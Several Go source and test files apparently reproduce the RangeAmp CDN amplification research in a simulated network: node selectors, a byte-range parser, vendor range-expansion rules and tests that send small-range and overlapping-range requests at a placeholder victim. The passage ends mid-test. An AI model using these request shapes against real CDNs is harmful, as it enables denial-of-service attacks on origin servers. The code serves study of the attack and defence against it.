func (c *Cluster) Close() {
	for _, l := range c.listeners {
		l.Close()
	}
}

// Selector chooses the ingress node for each request — the role the
// CDN's DNS/anycast mapping plays for a normal user, and the role the
// attacker subverts by resolving one node and pinning it.
type Selector interface {
	Pick(c *Cluster) *Node
}

// Pinned always selects one node: the §IV-C attacker position.
type Pinned struct{ Index int }

// Pick returns the pinned node.
func (p Pinned) Pick(c *Cluster) *Node {
	return c.Nodes[p.Index%len(c.Nodes)]
}

// RoundRobin cycles through the nodes: the §VI-A ethics control.
type RoundRobin struct{ next int }

// Pick returns the next node in rotation.
func (r *RoundRobin) Pick(c *Cluster) *Node {
	n := c.Nodes[r.next%len(c.Nodes)]
	r.next++
	return n
}

// Random picks nodes uniformly with a deterministic seed — roughly how
// a geographically spread botnet would land on PoPs.
type Random struct{ Rng *rand.Rand }

// NewRandom returns a seeded random selector.
func NewRandom(seed int64) *Random {
	return &Random{Rng: rand.New(rand.NewSource(seed))}
}

// Pick returns a uniformly random node.
func (r *Random) Pick(c *Cluster) *Node {
	return c.Nodes[r.Rng.Intn(len(c.Nodes))]
}

// NodeTraffic is one node's accumulated load.
type NodeTraffic struct {
	ID       string
	Client   netsim.Traffic
	Upstream netsim.Traffic
}

// TrafficByNode snapshots every node's counters.
func (c *Cluster) TrafficByNode() []NodeTraffic {
	out := make([]NodeTraffic, 0, len(c.Nodes))
	for _, n := range c.Nodes {
		out = append(out, NodeTraffic{
			ID:       n.ID,
			Client:   n.ClientSeg.Traffic(),
			Upstream: n.UpstreamSeg.Traffic(),
		})
	}
	return out
}

// Concentration returns the share (0..1) of total upstream response
// traffic carried by the busiest node — 1.0 means one node absorbed
// everything (the attacker's goal), 1/len(nodes) means an even spread
// (the ethics control).
func (c *Cluster) Concentration() float64 {
	var total, max int64
	for _, n := range c.Nodes {
		down := n.UpstreamSeg.Traffic().Down
		total += down
		if down > max {
			max = down
		}
	}
	if total == 0 {
		return 0
	}
	return float64(max) / float64(total)
}
