package cluster

import (
	"fmt"
	"testing"

	"repro/internal/httpwire"
	"repro/internal/netsim"
	"repro/internal/origin"
	"repro/internal/resource"
	"repro/internal/vendor"
)

// testDeployment stands up an origin plus an n-node cluster.
func testDeployment(t *testing.T, nodes int) (*Cluster, *netsim.Network) {
	t.Helper()
	store := resource.NewStore()
	store.AddSynthetic("/f.bin", 64<<10, "application/octet-stream")
	osrv := origin.NewServer(store, origin.Config{RangeSupport: true})

	net := netsim.NewNetwork()
	originL, err := net.Listen("origin:80")
	if err != nil {
		t.Fatal(err)
	}
	go osrv.Serve(originL)
	t.Cleanup(func() { originL.Close() })

	c, err := New(Config{
		Name:         "fcdn",
		Profile:      vendor.Cloudflare(),
		Network:      net,
		UpstreamAddr: "origin:80",
		NodeCount:    nodes,
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(c.Close)
	return c, net
}

// attackVia sends count SBR-style requests through sel.
func attackVia(t *testing.T, c *Cluster, net *netsim.Network, sel Selector, count int) {
	t.Helper()
	for i := 0; i < count; i++ {
		node := sel.Pick(c)
		req := httpwire.NewRequest("GET", fmt.Sprintf("/f.bin?cb=%d", i), "victim.example")
		req.Headers.Add("Range", "bytes=0-0")
		if _, err := origin.Fetch(net, node.Addr, node.ClientSeg, req); err != nil {
			t.Fatalf("request %d via %s: %v", i, node.ID, err)
		}
	}
}

func TestPinnedConcentratesOnOneNode(t *testing.T) {
	c, net := testDeployment(t, 5)
	attackVia(t, c, net, Pinned{Index: 2}, 20)
	if got := c.Concentration(); got != 1.0 {
		t.Errorf("pinned concentration = %.2f, want 1.0", got)
	}
	traffic := c.TrafficByNode()
	for _, nt := range traffic {
		if nt.ID == "node2" {
			if nt.Upstream.Down < 20*64<<10 {
				t.Errorf("pinned node upstream = %d", nt.Upstream.Down)
			}
			continue
		}
		if nt.Upstream.Down != 0 {
			t.Errorf("%s carried %d bytes, want 0", nt.ID, nt.Upstream.Down)
		}
	}
}

func TestRoundRobinSpreadsEvenly(t *testing.T) {
	c, net := testDeployment(t, 5)
	attackVia(t, c, net, &RoundRobin{}, 20)
	got := c.Concentration()
	if got < 0.19 || got > 0.21 {
		t.Errorf("round-robin concentration = %.2f, want ~0.20", got)
	}
	for _, nt := range c.TrafficByNode() {
		if nt.Upstream.Down == 0 {
			t.Errorf("%s idle under round robin", nt.ID)
		}
	}
}

func TestRandomSelectorCoversNodes(t *testing.T) {
	c, net := testDeployment(t, 4)
	attackVia(t, c, net, NewRandom(1), 40)
	busy := 0
	for _, nt := range c.TrafficByNode() {
		if nt.Upstream.Down > 0 {
			busy++
		}
	}
	if busy < 3 {
		t.Errorf("random selection used only %d/4 nodes", busy)
	}
	if got := c.Concentration(); got > 0.6 {
		t.Errorf("random concentration = %.2f, suspiciously pinned", got)
	}
}

func TestNodesHaveIndependentCaches(t *testing.T) {
	c, net := testDeployment(t, 2)
	// The same (cacheable) target through both nodes: each must fetch
	// from the origin once, because PoP caches are not shared.
	for _, node := range c.Nodes {
		req := httpwire.NewRequest("GET", "/f.bin", "h")
		if _, err := origin.Fetch(net, node.Addr, node.ClientSeg, req); err != nil {
			t.Fatal(err)
		}
	}
	for _, nt := range c.TrafficByNode() {
		if nt.Upstream.Down < 64<<10 {
			t.Errorf("%s served without its own origin fetch", nt.ID)
		}
	}
	// A second request through node0 hits its cache: no new upstream bytes.
	before := c.Nodes[0].UpstreamSeg.Traffic().Down
	req := httpwire.NewRequest("GET", "/f.bin", "h")
	if _, err := origin.Fetch(net, c.Nodes[0].Addr, c.Nodes[0].ClientSeg, req); err != nil {
		t.Fatal(err)
	}
	if after := c.Nodes[0].UpstreamSeg.Traffic().Down; after != before {
		t.Errorf("cache miss on repeat: %d -> %d", before, after)
	}
}

func TestConcentrationEmpty(t *testing.T) {
	c, _ := testDeployment(t, 3)
	if c.Concentration() != 0 {
		t.Error("idle cluster concentration != 0")
	}
}

func TestNewValidation(t *testing.T) {
	if _, err := New(Config{NodeCount: 0}); err == nil {
		t.Error("zero-node cluster accepted")
	}
}
