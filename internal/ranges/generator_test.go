package ranges

import "testing"

func TestGeneratorDeterministic(t *testing.T) {
	a := NewGenerator(42).Corpus(50)
	b := NewGenerator(42).Corpus(50)
	if len(a) != len(b) {
		t.Fatalf("lengths differ: %d vs %d", len(a), len(b))
	}
	for i := range a {
		if a[i].String() != b[i].String() {
			t.Fatalf("corpus %d differs: %s vs %s", i, a[i], b[i])
		}
	}
}

func TestGeneratorCorpusAllParse(t *testing.T) {
	for i, set := range NewGenerator(7).Corpus(500) {
		reparsed, err := Parse(set.String())
		if err != nil {
			t.Fatalf("corpus %d %q: %v", i, set.String(), err)
		}
		if len(reparsed) != len(set) {
			t.Fatalf("corpus %d round trip lost specs", i)
		}
	}
}

func TestGeneratorShapes(t *testing.T) {
	g := NewGenerator(1)
	for i := 0; i < 200; i++ {
		if s := g.SingleRange(); s.IsSuffix() || s.Last == Unbounded || s.Last < s.First {
			t.Fatalf("SingleRange produced %+v", s)
		}
		if s := g.SmallRange(4); s.Last-s.First+1 > 4 || s.Last < s.First {
			t.Fatalf("SmallRange(4) produced %+v", s)
		}
		if s := g.OpenEnded(); s.Last != Unbounded || s.IsSuffix() {
			t.Fatalf("OpenEnded produced %+v", s)
		}
		if s := g.Suffix(); !s.IsSuffix() || s.SuffixLen < 1 {
			t.Fatalf("Suffix produced %+v", s)
		}
	}
}

func TestGeneratorSmallRangeClampsMaxLen(t *testing.T) {
	g := NewGenerator(3)
	s := g.SmallRange(0)
	if s.Last != s.First {
		t.Errorf("SmallRange(0) = %+v, want single byte", s)
	}
}

func TestGeneratorOverlappingSet(t *testing.T) {
	set := NewGenerator(9).OverlappingSet(5, 0)
	if len(set) != 5 {
		t.Fatalf("len = %d, want 5", len(set))
	}
	if !set.OverlappingSpecs() {
		t.Error("OverlappingSet must overlap")
	}
	if got, want := set.String(), "bytes=0-,0-,0-,0-,0-"; got != want {
		t.Errorf("String = %q, want %q", got, want)
	}
}

func TestGeneratorMultiRangeCount(t *testing.T) {
	set := NewGenerator(11).MultiRange(7)
	if len(set) != 7 {
		t.Errorf("MultiRange(7) len = %d", len(set))
	}
	for _, s := range set {
		if !s.SyntacticallyValid() {
			t.Errorf("invalid spec %+v", s)
		}
	}
}
