package ranges

import (
	"testing"
	"testing/quick"
)

func TestExpandCloudFront(t *testing.T) {
	tests := []struct {
		first, last         int64
		wantFirst, wantLast int64
	}{
		{0, 0, 0, 1048575},
		{0, 1048575, 0, 1048575},
		{1, 1048576, 0, 2097151},
		{9437184, 9437184, 9437184, 10485759},
		{1048576, 1048576, 1048576, 2097151},
	}
	for _, tt := range tests {
		f, l := ExpandCloudFront(tt.first, tt.last)
		if f != tt.wantFirst || l != tt.wantLast {
			t.Errorf("ExpandCloudFront(%d,%d) = %d,%d want %d,%d",
				tt.first, tt.last, f, l, tt.wantFirst, tt.wantLast)
		}
	}
}

func TestExpandCloudFrontPaperExample(t *testing.T) {
	// §V-A: "Range: bytes=0-0,9437184-9437184" becomes "Range: bytes=0-10485759".
	set, err := Parse("bytes=0-0,9437184-9437184")
	if err != nil {
		t.Fatal(err)
	}
	f, l, ok := ExpandCloudFrontSet(set)
	if !ok || f != 0 || l != 10485759 {
		t.Fatalf("ExpandCloudFrontSet = %d,%d,%v want 0,10485759,true", f, l, ok)
	}
}

func TestExpandCloudFrontSetSpanLimit(t *testing.T) {
	// A span just over 10 MiB must not be collapsed.
	set := Set{NewRange(0, 0), NewRange(10*MiB, 10*MiB)}
	if _, _, ok := ExpandCloudFrontSet(set); ok {
		t.Error("span > 10MiB collapsed, want refusal")
	}
	// Exactly at the limit is collapsed.
	set = Set{NewRange(0, 0), NewRange(10*MiB-1, 10*MiB-1)}
	f, l, ok := ExpandCloudFrontSet(set)
	if !ok || f != 0 || l != 10*MiB-1 {
		t.Errorf("span == 10MiB: got %d,%d,%v", f, l, ok)
	}
}

func TestExpandCloudFrontSetRefusals(t *testing.T) {
	tests := []struct {
		name string
		set  Set
	}{
		{"empty", Set{}},
		{"suffix", Set{NewSuffix(5)}},
		{"open-ended", Set{NewRange(0, Unbounded)}},
		{"mixed", Set{NewRange(0, 0), NewSuffix(1)}},
	}
	for _, tt := range tests {
		if _, _, ok := ExpandCloudFrontSet(tt.set); ok {
			t.Errorf("%s: collapsed, want refusal", tt.name)
		}
	}
}

func TestAzureWindow(t *testing.T) {
	tests := []struct {
		first, last int64
		want        bool
	}{
		{8388608, 8388608, true},
		{8388608, 16777215, true},
		{8388607, 8388608, false},
		{8388608, 16777216, false},
		{0, 0, false},
		{16777215, 16777215, true},
	}
	for _, tt := range tests {
		if got := AzureWindow(tt.first, tt.last); got != tt.want {
			t.Errorf("AzureWindow(%d,%d) = %v, want %v", tt.first, tt.last, got, tt.want)
		}
	}
}

func TestExpandCloudFrontProperty(t *testing.T) {
	// Expansion always contains the original range and is 1 MiB aligned.
	f := func(a, b uint32) bool {
		lo, hi := int64(a), int64(b)
		if hi < lo {
			lo, hi = hi, lo
		}
		ef, el := ExpandCloudFront(lo, hi)
		return ef <= lo && el >= hi && ef%MiB == 0 && (el+1)%MiB == 0
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 5000}); err != nil {
		t.Error(err)
	}
}
