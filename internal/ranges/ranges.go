// Package ranges models HTTP byte ranges as defined by RFC 7233
// (Range header, byte-range-spec, suffix-byte-range-spec), plus the
// vendor-specific range arithmetic the RangeAmp paper documents
// (CloudFront 1 MiB alignment expansion, Azure's 8 MiB window).
//
// A Spec is one element of a Range header's byte-range-set. A Set is the
// whole byte-range-set. Parsing is strict with respect to the RFC 7233
// ABNF, with optional whitespace tolerated around commas as RFC 7230
// list-production OWS.
package ranges

import (
	"errors"
	"fmt"
	"strconv"
	"strings"
)

// Unbounded marks an absent last-byte-pos (an open-ended "first-" range)
// or, in First, marks a suffix-byte-range-spec.
const Unbounded = int64(-1)

// Spec is a single byte-range-spec or suffix-byte-range-spec.
//
// Normal form ("first-last" or "first-"): First >= 0, Last is the
// last-byte-pos or Unbounded when absent.
//
// Suffix form ("-suffixlen"): First == Unbounded and SuffixLen >= 0.
type Spec struct {
	First     int64
	Last      int64
	SuffixLen int64
}

// NewRange returns a "first-last" spec. Pass Unbounded as last for "first-".
func NewRange(first, last int64) Spec {
	return Spec{First: first, Last: last, SuffixLen: 0}
}

// NewSuffix returns a "-suffixlen" spec.
func NewSuffix(suffixLen int64) Spec {
	return Spec{First: Unbounded, Last: Unbounded, SuffixLen: suffixLen}
}

// IsSuffix reports whether s is a suffix-byte-range-spec ("-N").
func (s Spec) IsSuffix() bool { return s.First == Unbounded }

// IsOpenEnded reports whether s is an open-ended range ("N-").
func (s Spec) IsOpenEnded() bool { return !s.IsSuffix() && s.Last == Unbounded }

// SyntacticallyValid reports whether s could have been produced by the
// RFC 7233 grammar: non-negative positions and, when both ends are
// present, first <= last.
func (s Spec) SyntacticallyValid() bool {
	if s.IsSuffix() {
		return s.SuffixLen >= 0
	}
	if s.First < 0 {
		return false
	}
	if s.Last == Unbounded {
		return true
	}
	return s.Last >= s.First
}

// String renders the spec in Range-header form ("0-0", "5-", "-2").
func (s Spec) String() string {
	if s.IsSuffix() {
		return "-" + strconv.FormatInt(s.SuffixLen, 10)
	}
	if s.Last == Unbounded {
		return strconv.FormatInt(s.First, 10) + "-"
	}
	return strconv.FormatInt(s.First, 10) + "-" + strconv.FormatInt(s.Last, 10)
}

// Resolved is a spec evaluated against a concrete resource size: an
// absolute [Offset, Offset+Length) window.
type Resolved struct {
	Offset int64
	Length int64
}

// End returns the inclusive last byte position of the resolved window.
func (r Resolved) End() int64 { return r.Offset + r.Length - 1 }

// ContentRange renders the Content-Range header value for a resolved
// window of a resource with the given complete length.
func (r Resolved) ContentRange(completeLength int64) string {
	return fmt.Sprintf("bytes %d-%d/%d", r.Offset, r.End(), completeLength)
}

// Resolve evaluates the spec against a resource of the given size,
// per RFC 7233 §2.1. It returns ok=false when the range is unsatisfiable
// for that size (first-byte-pos beyond the end, or a zero-length suffix).
func (s Spec) Resolve(size int64) (Resolved, bool) {
	if size < 0 || !s.SyntacticallyValid() {
		return Resolved{}, false
	}
	if s.IsSuffix() {
		if s.SuffixLen == 0 || size == 0 {
			return Resolved{}, false
		}
		n := s.SuffixLen
		if n > size {
			n = size
		}
		return Resolved{Offset: size - n, Length: n}, true
	}
	if s.First >= size {
		return Resolved{}, false
	}
	last := s.Last
	if last == Unbounded || last >= size {
		last = size - 1
	}
	return Resolved{Offset: s.First, Length: last - s.First + 1}, true
}

// Set is a byte-range-set: the ordered list of specs in a Range header.
type Set []Spec

// Parse errors.
var (
	ErrNotBytesUnit = errors.New("ranges: unit is not \"bytes\"")
	ErrEmptySet     = errors.New("ranges: empty byte-range-set")
)

// ParseError describes a malformed byte-range-spec within a Range header.
type ParseError struct {
	Input string // the offending element
	Pos   int    // index of the element in the set
	Cause string
}

func (e *ParseError) Error() string {
	return fmt.Sprintf("ranges: invalid byte-range-spec %q at index %d: %s", e.Input, e.Pos, e.Cause)
}

// Parse parses a full Range header value such as "bytes=0-0,5-,-2".
// It enforces the bytes unit and RFC 7233 spec syntax; OWS is tolerated
// around commas and around the "=".
func Parse(header string) (Set, error) {
	eq := strings.IndexByte(header, '=')
	if eq < 0 {
		return nil, ErrNotBytesUnit
	}
	unit := strings.TrimSpace(header[:eq])
	if unit != "bytes" {
		return nil, ErrNotBytesUnit
	}
	return ParseSet(header[eq+1:])
}

// ParseSet parses a byte-range-set (the part after "bytes=").
func ParseSet(s string) (Set, error) {
	parts := strings.Split(s, ",")
	set := make(Set, 0, len(parts))
	idx := 0
	for _, raw := range parts {
		elem := strings.TrimSpace(raw)
		if elem == "" {
			// RFC 7230 list production allows empty elements; skip.
			continue
		}
		spec, err := parseSpec(elem, idx)
		if err != nil {
			return nil, err
		}
		set = append(set, spec)
		idx++
	}
	if len(set) == 0 {
		return nil, ErrEmptySet
	}
	return set, nil
}

func parseSpec(elem string, pos int) (Spec, error) {
	dash := strings.IndexByte(elem, '-')
	if dash < 0 {
		return Spec{}, &ParseError{Input: elem, Pos: pos, Cause: "missing '-'"}
	}
	firstStr, lastStr := elem[:dash], elem[dash+1:]
	if firstStr == "" {
		// suffix-byte-range-spec: "-" suffix-length
		n, err := parsePos(lastStr)
		if err != nil {
			return Spec{}, &ParseError{Input: elem, Pos: pos, Cause: "bad suffix-length: " + err.Error()}
		}
		return NewSuffix(n), nil
	}
	first, err := parsePos(firstStr)
	if err != nil {
		return Spec{}, &ParseError{Input: elem, Pos: pos, Cause: "bad first-byte-pos: " + err.Error()}
	}
	if lastStr == "" {
		return NewRange(first, Unbounded), nil
	}
	last, err := parsePos(lastStr)
	if err != nil {
		return Spec{}, &ParseError{Input: elem, Pos: pos, Cause: "bad last-byte-pos: " + err.Error()}
	}
	if last < first {
		return Spec{}, &ParseError{Input: elem, Pos: pos, Cause: "last-byte-pos < first-byte-pos"}
	}
	return NewRange(first, last), nil
}

// parsePos parses a 1*DIGIT byte position. It rejects signs, spaces and
// non-digits, unlike strconv.ParseInt's broader syntax.
func parsePos(s string) (int64, error) {
	if s == "" {
		return 0, errors.New("empty")
	}
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return 0, fmt.Errorf("non-digit %q", s[i])
		}
	}
	n, err := strconv.ParseInt(s, 10, 64)
	if err != nil {
		return 0, err
	}
	return n, nil
}

// String renders the set as a full Range header value ("bytes=...").
func (set Set) String() string {
	var b strings.Builder
	b.Grow(7 + len(set)*8)
	b.WriteString("bytes=")
	for i, s := range set {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(s.String())
	}
	return b.String()
}

// HeaderValue is an alias for String, matching the Range header field value.
func (set Set) HeaderValue() string { return set.String() }

// Resolve evaluates every spec against the resource size, dropping
// unsatisfiable specs. The returned slice preserves request order
// (RFC 7233 allows servers to reorder; CDNs in the paper do not).
func (set Set) Resolve(size int64) []Resolved {
	out := make([]Resolved, 0, len(set))
	for _, s := range set {
		if r, ok := s.Resolve(size); ok {
			out = append(out, r)
		}
	}
	return out
}

// Satisfiable reports whether at least one spec resolves against size.
func (set Set) Satisfiable(size int64) bool {
	for _, s := range set {
		if _, ok := s.Resolve(size); ok {
			return true
		}
	}
	return false
}

// Overlapping reports whether any two resolved windows overlap for a
// resource of the given size. This is the property RFC 7233 §6.1 warns
// about and that the OBR attack exploits.
func (set Set) Overlapping(size int64) bool {
	rs := set.Resolve(size)
	for i := 0; i < len(rs); i++ {
		for j := i + 1; j < len(rs); j++ {
			if windowsOverlap(rs[i], rs[j]) {
				return true
			}
		}
	}
	return false
}

func windowsOverlap(a, b Resolved) bool {
	return a.Offset <= b.End() && b.Offset <= a.End()
}

// OverlappingSpecs reports whether the set contains overlap that is
// visible without knowing the resource size (e.g. two "0-" specs, or
// "0-5" with "3-9"). Suffix specs are compared only with other suffix
// specs (any two non-zero suffixes overlap) and with open-ended specs
// (an open-ended range overlaps any non-zero suffix).
func (set Set) OverlappingSpecs() bool {
	for i := 0; i < len(set); i++ {
		for j := i + 1; j < len(set); j++ {
			if specsDefinitelyOverlap(set[i], set[j]) {
				return true
			}
		}
	}
	return false
}

func specsDefinitelyOverlap(a, b Spec) bool {
	switch {
	case a.IsSuffix() && b.IsSuffix():
		return a.SuffixLen > 0 && b.SuffixLen > 0
	case a.IsSuffix():
		return b.IsOpenEnded() && a.SuffixLen > 0
	case b.IsSuffix():
		return a.IsOpenEnded() && b.SuffixLen > 0
	default:
		aLast, bLast := a.Last, b.Last
		if aLast == Unbounded {
			aLast = 1<<62 - 1
		}
		if bLast == Unbounded {
			bLast = 1<<62 - 1
		}
		return a.First <= bLast && b.First <= aLast
	}
}

// Coalesce merges overlapping and adjacent resolved windows, returning
// them sorted by offset. This implements the "coalesce" option RFC 7233
// suggests servers apply to abusive multi-range requests.
func Coalesce(rs []Resolved) []Resolved {
	if len(rs) == 0 {
		return nil
	}
	sorted := make([]Resolved, len(rs))
	copy(sorted, rs)
	// Insertion sort: n is small in practice and this avoids importing sort
	// for a two-field struct.
	for i := 1; i < len(sorted); i++ {
		for j := i; j > 0 && sorted[j].Offset < sorted[j-1].Offset; j-- {
			sorted[j], sorted[j-1] = sorted[j-1], sorted[j]
		}
	}
	out := make([]Resolved, 0, len(sorted))
	cur := sorted[0]
	for _, r := range sorted[1:] {
		if r.Offset <= cur.End()+1 {
			if r.End() > cur.End() {
				cur.Length = r.End() - cur.Offset + 1
			}
			continue
		}
		out = append(out, cur)
		cur = r
	}
	out = append(out, cur)
	return out
}

// TotalBytes sums the lengths of the resolved windows (double-counting
// overlap, which is exactly what an OBR multipart response transmits).
func TotalBytes(rs []Resolved) int64 {
	var n int64
	for _, r := range rs {
		n += r.Length
	}
	return n
}

// Span returns the smallest single window covering all resolved windows.
// ok is false for an empty slice.
func Span(rs []Resolved) (Resolved, bool) {
	if len(rs) == 0 {
		return Resolved{}, false
	}
	lo, hi := rs[0].Offset, rs[0].End()
	for _, r := range rs[1:] {
		if r.Offset < lo {
			lo = r.Offset
		}
		if r.End() > hi {
			hi = r.End()
		}
	}
	return Resolved{Offset: lo, Length: hi - lo + 1}, true
}
