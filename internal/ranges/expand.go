package ranges

// Vendor-specific range expansion arithmetic documented in §V-A of the
// paper. These are pure functions so vendor profiles and tests can share
// them.

const (
	// MiB is 2^20 bytes, the CloudFront expansion alignment unit.
	MiB = int64(1 << 20)

	// CloudFrontMaxExpandedSpan is the largest first'..last' window
	// CloudFront collapses a multi-range request into (10 MiB).
	CloudFrontMaxExpandedSpan = 10 * MiB

	// AzureWindowFirst and AzureWindowLast bound Azure's second
	// back-to-origin range request for resources larger than 8 MiB.
	AzureWindowFirst = int64(8388608)  // 8 MiB
	AzureWindowLast  = int64(16777215) // 16 MiB - 1

	// AzureCutoff is the payload size after which Azure closes its first
	// (range-stripped) back-to-origin connection.
	AzureCutoff = int64(8 << 20)
)

// ExpandCloudFront applies CloudFront's Expansion policy to a single
// "first-last" range: first' = (first >> 20) << 20 and
// last' = ((last >> 20 + 1) << 20) - 1 (1 MiB alignment outward).
func ExpandCloudFront(first, last int64) (int64, int64) {
	f := (first >> 20) << 20
	l := ((last>>20)+1)<<20 - 1
	return f, l
}

// ExpandCloudFrontSet applies CloudFront's multi-range collapse: the
// aligned span of min(first_list)..max(last_list), but only when that
// span is at most CloudFrontMaxExpandedSpan. ok is false when the set is
// empty, contains suffix/open-ended specs (which CloudFront does not
// collapse), or exceeds the span limit.
func ExpandCloudFrontSet(set Set) (first, last int64, ok bool) {
	if len(set) == 0 {
		return 0, 0, false
	}
	minFirst, maxLast := int64(1<<62-1), int64(-1)
	for _, s := range set {
		if s.IsSuffix() || s.Last == Unbounded {
			return 0, 0, false
		}
		if s.First < minFirst {
			minFirst = s.First
		}
		if s.Last > maxLast {
			maxLast = s.Last
		}
	}
	f, l := ExpandCloudFront(minFirst, maxLast)
	if l-f+1 > CloudFrontMaxExpandedSpan {
		return 0, 0, false
	}
	return f, l, true
}

// AzureWindow reports whether [first,last] falls inside Azure's
// 8 MiB..16 MiB-1 expansion window, which (for resources over 8 MiB)
// triggers the Expansion policy with the fixed window range.
func AzureWindow(first, last int64) bool {
	return first >= AzureWindowFirst && last <= AzureWindowLast && first <= last
}
