package ranges

import (
	"errors"
	"strings"
	"testing"
	"testing/quick"
)

func TestParseSingle(t *testing.T) {
	tests := []struct {
		name   string
		header string
		want   Set
	}{
		{"zero-zero", "bytes=0-0", Set{NewRange(0, 0)}},
		{"first-last", "bytes=10-20", Set{NewRange(10, 20)}},
		{"open-ended", "bytes=5-", Set{NewRange(5, Unbounded)}},
		{"suffix", "bytes=-2", Set{NewSuffix(2)}},
		{"suffix-zero", "bytes=-0", Set{NewSuffix(0)}},
		{"ows-around-eq", "bytes = 0-0", Set{NewRange(0, 0)}},
		{"ows-around-comma", "bytes=0-0 , 5-9", Set{NewRange(0, 0), NewRange(5, 9)}},
		{"empty-list-elements", "bytes=0-0,,5-9,", Set{NewRange(0, 0), NewRange(5, 9)}},
		{"large-positions", "bytes=8388608-16777215", Set{NewRange(8388608, 16777215)}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Parse(tt.header)
			if err != nil {
				t.Fatalf("Parse(%q): %v", tt.header, err)
			}
			if len(got) != len(tt.want) {
				t.Fatalf("Parse(%q) = %v, want %v", tt.header, got, tt.want)
			}
			for i := range got {
				if got[i] != tt.want[i] {
					t.Errorf("spec %d = %+v, want %+v", i, got[i], tt.want[i])
				}
			}
		})
	}
}

func TestParseMulti(t *testing.T) {
	set, err := Parse("bytes=1-1,-2")
	if err != nil {
		t.Fatal(err)
	}
	want := Set{NewRange(1, 1), NewSuffix(2)}
	if len(set) != 2 || set[0] != want[0] || set[1] != want[1] {
		t.Fatalf("got %v, want %v", set, want)
	}
}

func TestParseOBRShape(t *testing.T) {
	set, err := Parse("bytes=0-,0-,0-")
	if err != nil {
		t.Fatal(err)
	}
	if len(set) != 3 {
		t.Fatalf("got %d specs, want 3", len(set))
	}
	for i, s := range set {
		if s != NewRange(0, Unbounded) {
			t.Errorf("spec %d = %+v, want 0-", i, s)
		}
	}
	if !set.OverlappingSpecs() {
		t.Error("OBR shape must be detected as overlapping")
	}
}

func TestParseErrors(t *testing.T) {
	tests := []struct {
		name   string
		header string
		isUnit bool // expect ErrNotBytesUnit
	}{
		{"no-equals", "bytes", true},
		{"wrong-unit", "items=0-5", true},
		{"empty-set", "bytes=", false},
		{"only-commas", "bytes=,,,", false},
		{"no-dash", "bytes=5", false},
		{"reversed", "bytes=9-5", false},
		{"negative-ish", "bytes=--5", false},
		{"alpha-first", "bytes=a-5", false},
		{"alpha-last", "bytes=0-b", false},
		{"plus-sign", "bytes=+1-5", false},
		{"inner-space", "bytes=1 -5", false},
		{"empty-both", "bytes=-", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse(tt.header)
			if err == nil {
				t.Fatalf("Parse(%q) succeeded, want error", tt.header)
			}
			if tt.isUnit && !errors.Is(err, ErrNotBytesUnit) {
				t.Errorf("Parse(%q) err = %v, want ErrNotBytesUnit", tt.header, err)
			}
		})
	}
}

func TestParseErrorType(t *testing.T) {
	_, err := Parse("bytes=0-0,9-5")
	var pe *ParseError
	if !errors.As(err, &pe) {
		t.Fatalf("err = %T, want *ParseError", err)
	}
	if pe.Pos != 1 || pe.Input != "9-5" {
		t.Errorf("ParseError = %+v, want Pos=1 Input=9-5", pe)
	}
}

func TestSpecString(t *testing.T) {
	tests := []struct {
		spec Spec
		want string
	}{
		{NewRange(0, 0), "0-0"},
		{NewRange(7, Unbounded), "7-"},
		{NewSuffix(1024), "-1024"},
		{NewRange(8388608, 16777215), "8388608-16777215"},
	}
	for _, tt := range tests {
		if got := tt.spec.String(); got != tt.want {
			t.Errorf("%+v.String() = %q, want %q", tt.spec, got, tt.want)
		}
	}
}

func TestSetString(t *testing.T) {
	set := Set{NewSuffix(1024), NewRange(0, Unbounded), NewRange(0, Unbounded)}
	if got, want := set.String(), "bytes=-1024,0-,0-"; got != want {
		t.Errorf("Set.String() = %q, want %q", got, want)
	}
}

func TestResolve(t *testing.T) {
	const size = 1000
	tests := []struct {
		name string
		spec Spec
		want Resolved
		ok   bool
	}{
		{"first-byte", NewRange(0, 0), Resolved{0, 1}, true},
		{"interior", NewRange(10, 19), Resolved{10, 10}, true},
		{"clamped-last", NewRange(990, 5000), Resolved{990, 10}, true},
		{"open-ended", NewRange(998, Unbounded), Resolved{998, 2}, true},
		{"whole-open", NewRange(0, Unbounded), Resolved{0, 1000}, true},
		{"suffix", NewSuffix(2), Resolved{998, 2}, true},
		{"suffix-larger-than-file", NewSuffix(5000), Resolved{0, 1000}, true},
		{"suffix-zero", NewSuffix(0), Resolved{}, false},
		{"beyond-end", NewRange(1000, 1000), Resolved{}, false},
		{"far-beyond", NewRange(9437184, 9437184), Resolved{}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := tt.spec.Resolve(size)
			if ok != tt.ok || got != tt.want {
				t.Errorf("%v.Resolve(%d) = %+v,%v want %+v,%v", tt.spec, size, got, ok, tt.want, tt.ok)
			}
		})
	}
}

func TestResolveZeroSize(t *testing.T) {
	for _, spec := range []Spec{NewRange(0, 0), NewRange(0, Unbounded), NewSuffix(5)} {
		if _, ok := spec.Resolve(0); ok {
			t.Errorf("%v.Resolve(0) ok, want unsatisfiable", spec)
		}
	}
}

func TestSetResolveDropsUnsatisfiable(t *testing.T) {
	set := Set{NewRange(0, 0), NewRange(9437184, 9437184)}
	rs := set.Resolve(1 << 20)
	if len(rs) != 1 || rs[0] != (Resolved{0, 1}) {
		t.Fatalf("Resolve = %+v, want single {0,1}", rs)
	}
	if !set.Satisfiable(1 << 20) {
		t.Error("set should be satisfiable")
	}
	if set.Satisfiable(0) {
		t.Error("empty resource should be unsatisfiable for first-last specs")
	}
}

func TestOverlapping(t *testing.T) {
	tests := []struct {
		name string
		set  Set
		size int64
		want bool
	}{
		{"disjoint", Set{NewRange(0, 4), NewRange(5, 9)}, 100, false},
		{"identical", Set{NewRange(0, Unbounded), NewRange(0, Unbounded)}, 100, true},
		{"partial", Set{NewRange(0, 5), NewRange(3, 9)}, 100, true},
		{"suffix-vs-tail", Set{NewSuffix(2), NewRange(99, Unbounded)}, 100, true},
		{"suffix-vs-head", Set{NewSuffix(2), NewRange(0, 0)}, 100, false},
		{"single", Set{NewRange(0, 0)}, 100, false},
		{"unsat-ignored", Set{NewRange(200, 300), NewRange(250, 350)}, 100, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := tt.set.Overlapping(tt.size); got != tt.want {
